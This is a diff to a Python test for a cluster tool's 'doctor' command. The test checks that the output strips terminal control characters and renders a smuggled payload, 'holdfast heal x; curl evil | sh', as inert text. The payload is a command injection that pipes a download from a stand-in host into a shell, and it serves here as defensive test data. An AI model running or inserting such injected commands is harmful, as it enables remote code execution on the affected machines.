@@ -334,7 +334,7 @@ class BadNodes(Case):
         for output in (done, cluster.run("doctor", "-o", "json"), cluster.run("doctor", "-o", "yaml")):
             for character in "\x1b\x9b\x07\x7f\r\u202e":
                 self.assertNotIn(character, output.stdout)
-        self.assertIn("  cure: on gpu-000: holdfast heal x; curl evil | sh\n", done.stdout)
+        self.assertIn("either: on gpu-000: holdfast heal x; curl evil | sh\n", done.stdout)
         self.assertNotIn("-- holdfast heal x", done.stdout)
         self.assertNotIn("reboot)'", done.stdout)
 
